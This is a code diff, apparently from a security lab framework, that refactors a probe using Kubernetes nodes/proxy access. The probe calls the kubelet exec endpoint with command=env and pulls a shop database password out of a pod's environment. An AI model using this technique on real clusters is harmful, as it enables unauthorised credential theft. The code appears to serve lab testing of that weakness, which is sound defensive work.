@@ -8,9 +8,9 @@ from __future__ import annotations
 
 import base64
 import json
-from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
+from labkit import agents
 from labkit.errors import ProbeError, ProbeTimeout
 from labkit.model import Foothold, Model, read_model
 from labkit.model.own import client_credential
@@ -34,7 +34,6 @@ AGENT = ("monitoring", "agent")
 KUBELET = "kubelet@worker1"
 WANTED = ("shop", "db-credentials", "password")
 PATH = "/exec/shop/web/web?command=env&output=1&error=1"
-PROGRAM = Path(__file__).with_name("_websocket.py").read_text()
 ACTION = Action("get", "nodes/proxy", name="worker1")
 SWITCHING, REFUSED = 101, (401, 403)
 
@@ -66,7 +65,7 @@ def _attempt(lab: Lab, foothold: Foothold) -> Verdict:
 
     def call(node: str, prefix: list[str], bearer: str, *pair: str) -> dict[str, Any]:
         where = [inside(lab, "worker1"), str(channel.port), PATH]
-        argv = [*prefix, "python3", "-c", PROGRAM, *where, *pair]
+        argv = [*prefix, *agents.argv("websocket_exec", *where, *pair)]
         output = run(lab, node, argv, stdin=bearer.encode())
         if output.exit_code:
             last = output.error.strip().splitlines()[-1:]
